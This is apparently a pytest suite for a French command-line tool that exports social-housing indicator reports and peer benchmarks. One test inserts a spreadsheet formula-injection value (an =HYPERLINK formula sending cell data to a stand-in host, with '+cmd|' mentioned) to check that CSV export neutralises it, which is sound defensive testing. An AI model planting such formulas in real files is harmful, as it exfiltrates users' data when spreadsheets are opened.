"""`acterr export` and `acterr modele verifier` through the CLI: the three reports, --json equal to
the library's description, data for analysts, --forcer, exit codes; and the benchmark among peers."""

import json
import re
from pathlib import Path

import polars as pl
import pyarrow.parquet as pq
import pytest
from builders import MONTPELLIER_METROPOLE, SIREN_A, SIREN_B, TOULOUSE_METROPOLE
from openpyxl import load_workbook
from typer.testing import CliRunner

from acterr_cli.api import ExportRequest, export
from acterr_cli.cli.app import app
from acterr_cli.outputs.reports import ReportInputs, Scope, write_report
from acterr_cli.outputs.reports.model import ReportData
from acterr_cli.outputs.reports.peers import benchmark, peer_group
from acterr_cli.referentiel.model import load_referentiel
from acterr_cli.results import RESULT_SCHEMA, Computation

runner = CliRunner()
NNBSP = "\u202f"


def run(espace, *args):
    return runner.invoke(app, ["--espace", str(espace), *[str(a) for a in args]])


@pytest.mark.parametrize("command", [["export"], ["modele", "verifier"]])
def test_help_in_french(command):
    result = runner.invoke(app, [*command, "--help"])
    assert result.exit_code == 0 and "Utilisation : acterr" in result.stdout
    assert ("--organisme" in result.stdout and "--fiche" in result.stdout) if command == ["export"] else "modèle" in result.stdout


def test_overview_keeps_the_old_command_line(espace, tmp_path):
    target = tmp_path / "rapport.xlsx"
    result = run(espace, "export", "--territoire", "EPCI", "--sortie", target)
    assert result.exit_code == 0, result.output
    assert target.exists() and "Rapport Excel écrit" in result.stdout
    assert "Valeur locale" in result.stdout and "Plus-value sociale" in result.stdout
    again = run(espace, "export", "--sortie", target)
    assert again.exit_code == 2 and "--forcer" in again.stderr
    assert run(espace, "export", "--sortie", target, "--forcer").exit_code == 0


def test_json_describes_what_was_written_like_the_library(espace, tmp_path):
    result = run(espace, "export", "--code", TOULOUSE_METROPOLE, "--sortie", tmp_path / "cli.xlsx", "--json")
    assert result.exit_code == 0, result.output
    document = json.loads(result.stdout)
    library = export(espace, ExportRequest(tmp_path / "lib.xlsx", code=TOULOUSE_METROPOLE), load_referentiel()).to_dict()
    for doc in (document, library):
        for f in doc["fichiers"]:
            f["chemin"] = Path(f["chemin"]).suffix
        doc["rapport"] = Path(doc["rapport"]).suffix
    assert document == library
    assert document["version"] == 1 and document["exercice"] == 2025 and document["niveau"] == "EPCI"
    assert document["perimetre"] == {"type": "territoire", "code": TOULOUSE_METROPOLE, "siren": None, "nom": "Toulouse Métropole"}
    assert document["feuilles"][:3] == ["Synthèse", "Graphiques", "Organismes"]
    assert document["fichiers"] == [{"chemin": ".xlsx", "format": "xlsx", "contenu": "rapport", "sujet": "Toulouse Métropole"}]


def test_territory_report_on_screen(espace, tmp_path):
    result = run(espace, "export", "--territoire", "EPCI", "--code", TOULOUSE_METROPOLE, "--sortie", tmp_path / "t.xlsx")
    assert result.exit_code == 0, result.output
    out = result.stdout.replace(NNBSP, " ")
    assert "Toulouse Métropole — exercice 2025" in out
    assert "610 000 €" in out  # ECO-10 of the territory
    # SOC-01 with its range, fully covered, then its evidence grade
    assert "3,8 M€* (3,3 – 3,8)" not in out and re.search(r"3,8 M€ \(3,3 – 3,8\) [ABC]\b", out)


def test_organisation_report_on_screen(espace, tmp_path):
    result = run(espace, "export", "--organisme", SIREN_B, "--sortie", tmp_path / "b.xlsx", "--json")
    assert result.exit_code == 0, result.output
    document = json.loads(result.stdout)
    assert document["perimetre"]["nom"] == "Logis Test B" and "Territoires" in document["feuilles"]


def test_unknown_scope_is_a_usage_error(espace, tmp_path):
    tmp_path = tmp_path / "sortie"
    tmp_path.mkdir()
    result = run(espace, "export", "--code", "200054807", "--sortie", tmp_path / "x.xlsx")
    assert result.exit_code == 2 and "200054807" in result.stderr
    result = run(espace, "export", "--organisme", "123456789", "--sortie", tmp_path / "y.xlsx")
    assert result.exit_code == 2 and "Habitat Test A" in result.stderr
    result = run(espace, "export", "--organisme", SIREN_A, "--code", TOULOUSE_METROPOLE, "--sortie", tmp_path / "z.xlsx")
    assert result.exit_code == 2
    result = run(espace, "export", "--format", "ods", "--sortie", tmp_path / "z.xlsx")
    assert result.exit_code == 2 and "format inconnu" in result.stderr
    assert not list(tmp_path.iterdir())


def test_csv_for_analysts_with_its_provenance(espace, tmp_path):
    result = run(espace, "export", "--format", "csv", "--sortie", tmp_path / "resultats.xlsx")
    assert result.exit_code == 0, result.output
    frame = pl.read_csv(tmp_path / "resultats.csv", schema_overrides={"code_territoire": pl.Utf8, "siren": pl.Utf8})
    assert set(RESULT_SCHEMA) <= set(frame.columns)
    eco10 = frame.filter((pl.col("indicateur") == "ECO-10") & (pl.col("code_territoire") == TOULOUSE_METROPOLE) & pl.col("siren").is_null())
    assert eco10["valeur"].to_list() == [pytest.approx(610_000)]
    missing = frame.filter((pl.col("indicateur") == "ECO-01") & (pl.col("code_territoire") == MONTPELLIER_METROPOLE) & pl.col("siren").is_null())
    assert missing["valeur"].to_list() == [None] and missing["statut"].to_list() == ["non_calculable"]  # missing stays empty
    provenance = json.loads((tmp_path / "resultats.provenance.json").read_text("utf-8"))
    assert {e["fichier"] for e in provenance["provenance"]["entrees"]} == {"org_a.xlsx", "org_b.xlsx", "liasse.csv"}
    assert provenance["perimetre"]["type"] == "ensemble" and provenance["referentiel"]["fichiers"]


def test_csv_cells_never_start_like_a_formula(tmp_path):
    """A name that a spreadsheet would run (« =HYPERLINK(…) », « +cmd|… ») is written behind an
    apostrophe in the CSV; the xlsx report writes it as text anyway."""
    import builders

    hostile = '=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez")'
    liasse = builders.write_liasse(tmp_path, rows=(builders.LIASSE_B.replace("Logis Test B", hostile),))
    espace = tmp_path / "espace"
    assert runner.invoke(app, ["--espace", str(espace), "import", str(liasse)]).exit_code == 0
    result = run(espace, "export", "--territoire", "FRANCE", "--format", "csv", "--sortie", tmp_path / "r.csv")
    assert result.exit_code == 0, result.output
    names = set(pl.read_csv(tmp_path / "r.csv", infer_schema=False)["raison_sociale"].drop_nulls().to_list())
    assert names == {"'" + hostile}


def test_parquet_carries_its_provenance(espace, tmp_path):
    result = run(espace, "export", "--format", "parquet", "--organisme", SIREN_A, "--sortie", tmp_path / "a.parquet")
    assert result.exit_code == 0, result.output
    frame = pl.read_parquet(tmp_path / "a.parquet")
    assert set(frame["siren"].unique().to_list()) == {SIREN_A}
    meta = json.loads(pq.read_metadata(tmp_path / "a.parquet").metadata[b"acterr"])
    assert meta["perimetre"]["siren"] == SIREN_A and meta["exercice"] == 2025


def test_nothing_is_written_when_one_target_exists(espace, tmp_path):
    tmp_path = tmp_path / "sortie"
    tmp_path.mkdir()
    (tmp_path / "r_fiche_ensemble.png").write_bytes(b"old")
    result = run(espace, "export", "--fiche", "--sortie", tmp_path / "r.xlsx")
    assert result.exit_code == 2 and "r_fiche_ensemble.png" in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r_fiche_ensemble.png"]
    result = run(espace, "export", "--fiche", "--sortie", tmp_path / "r.xlsx", "--forcer")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "r_fiche_ensemble.png").read_bytes() != b"old"


def test_template_only_fills_a_workbook(espace, tmp_path):
    result = run(espace, "export", "--format", "csv", "--modele", tmp_path / "m.xlsx", "--sortie", tmp_path / "r.csv")
    assert result.exit_code == 2 and "--modele" in result.stderr


# ─── peers ───

def peer_rows(values: dict[str, float]) -> pl.DataFrame:
    base = {k: None for k in RESULT_SCHEMA}
    rows = [{**base, "indicateur": "PV-01", "libelle": "Part du parc en QPV", "axe": "PV", "registre": "plus_value_sociale",
             "niveau": "FRANCE", "code_territoire": "FR", "nom_territoire": "France", "siren": siren, "raison_sociale": f"Org {siren}",
             "exercice": 2025, "valeur": v, "unite": "%", "couverture": 100.0, "statut": "calcule"} for siren, v in values.items()]
    return pl.DataFrame(rows, schema=RESULT_SCHEMA)


def test_peer_quartiles_exclude_the_organisation_and_name_nobody():
    values = {"1": 10.0, "2": 20.0, "3": 30.0, "4": 40.0, "5": 50.0, "6": 60.0}
    national = Computation("FRANCE", peer_rows(values), {})
    families = {"1": "OPH", "2": "OPH", "3": "ESH", "4": "OPH", "5": "OPH", "6": "SEM"}
    data = ReportData.build(ReportInputs(national, national, families=families), Scope.organisation("1"))
    [row] = benchmark(data)
    # no REGION computation, so no home région: the peers are every other organisation, 20 to 60
    assert row["groupe"] == "tous les organismes importés"
    assert (row["q1"], row["mediane"], row["q3"]) == (30.0, 40.0, 50.0)
    assert row["position"] == "sous le 1er quartile" and row["pairs"] == 5
    assert row["mieux"] == "ni mieux ni moins bien en soi"  # the share of dwellings in QPV is context, not a score
    assert set(row) >= {"siren", "raison_sociale", "valeur"} and row["raison_sociale"] == "Org 1"


def test_peer_group_narrows_to_famille_size_and_region_when_large_enough():
    everyone = [str(i) for i in range(1, 13)]
    families = {s: "OPH" for s in everyone} | {"12": "ESH"}
    regions = {s: ("76", "Occitanie") for s in everyone} | {"11": ("11", "Île-de-France")}
    bands = {s: "moins de 3 000 logements" for s in everyone} | {"7": "10 000 logements ou plus", "8": "10 000 logements ou plus"}
    group, label = peer_group("1", everyone, families, regions, bands)  # 2–6, 9, 10: seven small OPH of Occitanie
    assert group == ["2", "3", "4", "5", "6", "9", "10"] and label == "OPH, moins de 3 000 logements, Occitanie"
    group, label = peer_group("7", everyone, families, regions, bands)  # one large peer: widened to every size
    assert group == ["1", "2", "3", "4", "5", "6", "8", "9", "10"]
    assert label == "OPH, 10 000 logements ou plus, Occitanie : 1 pair, trop peu → OPH, toutes tailles, Occitanie"
    group, label = peer_group("12", everyone, families, regions, bands)
    assert label.endswith("→ même région (Occitanie), toutes familles") and "11" not in group
    group, label = peer_group("11", everyone, families, regions, bands)
    assert label.endswith("→ tous les organismes importés")


def test_peers_say_which_way_is_better():
    from acterr_cli.outputs.reports.peers import DIRECTION_TEXT, direction

    labels = ReportData.build(ReportInputs(Computation("FRANCE", peer_rows({"1": 1.0}), {}))).labels
    assert DIRECTION_TEXT[direction(labels["ENV-01b"])] == "mieux si plus bas"  # F–G: lower is better
    assert DIRECTION_TEXT[direction(labels["ENV-01"])] == "mieux si plus haut"
    assert DIRECTION_TEXT[direction(labels["PV-01"])] == "ni mieux ni moins bien en soi"  # context, not a score


def test_too_few_peers_give_no_quartile():
    national = Computation("FRANCE", peer_rows({"1": 10.0, "2": 20.0, "3": 30.0, "4": 40.0, "5": 50.0}), {})
    data = ReportData.build(ReportInputs(national, national), Scope.organisation("1"))
    [row] = benchmark(data)
    assert row["q1"] is None and row["position"].startswith("moins de 5 pairs")
    assert row["groupe"] == "tous les organismes importés : 4 pairs, trop peu"
    assert data.peers == []  # no Pairs sheet when nobody can be compared


def test_pairs_sheet_names_no_peer_in_an_organisation_report(tmp_path):
    values = {str(i): 10.0 * i for i in range(1, 8)}
    national = Computation("FRANCE", peer_rows(values), {})
    written = write_report(tmp_path / "o.xlsx", ReportInputs(national, national), scope=Scope.organisation("1"))
    wb = load_workbook(written.path)
    assert "Pairs" in wb.sheetnames
    texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any(f"Org {i}" in t for t in texts for i in range(2, 8))  # no peer named anywhere
    assert any("Les pairs ne sont nommés nulle part dans ce rapport" in t for t in texts)
    assert any("ni mieux ni moins bien en soi" == t for t in texts)


# ─── evolution N vs N-1, from real imports ───

@pytest.mark.filterwarnings("ignore:.*extension is not supported")
def test_organisation_report_shows_the_change_since_last_exercice(espace, tmp_path):
    """A's 2024 questionnaire: Toulouse TFPB 380 000 instead of 400 000, so its TFPB goes from
    500 000 € (2024) to 520 000 € (2025): +4,0 %."""
    import builders
    from openpyxl import load_workbook

    from acterr_cli import api

    tables = {**builders.TABLES_A, "Fiscalite": [{**builders.TABLES_A["Fiscalite"][0], "tfpb_eur": 380000}, builders.TABLES_A["Fiscalite"][1]]}
    path = builders.write_questionnaire(tmp_path / "org_a_2024.xlsx", {**builders.ORG_A, "exercice": 2024}, tables)
    assert not api.import_paths(espace, [path]).refused
    result = export(espace, ExportRequest(tmp_path / "a.xlsx", siren=SIREN_A), load_referentiel())
    assert result.data.has_previous and result.data.year == 2025
    wb = load_workbook(result.main)
    [(sheet, coord)] = list(wb.defined_names["acterr_ECO_10"].destinations)
    cell = wb[sheet][coord.replace("$", "")]
    assert cell.value == pytest.approx(520_000)
    assert cell.offset(column=4).value == pytest.approx(0.04)  # + 4 %, a true percentage: « vs N-1 » column, after Fiabilité
    data = wb["Données graphiques"]
    evolution = [t for t in data.tables.values() if data[t.ref.split(":")[0]].offset(row=-1).value.startswith("Évolution 2024 → 2025")]
    assert evolution
    rows = [[c.value for c in row] for row in data[evolution[0].ref]][1:]
    assert ["TFPB versée", pytest.approx(0.04)] in rows
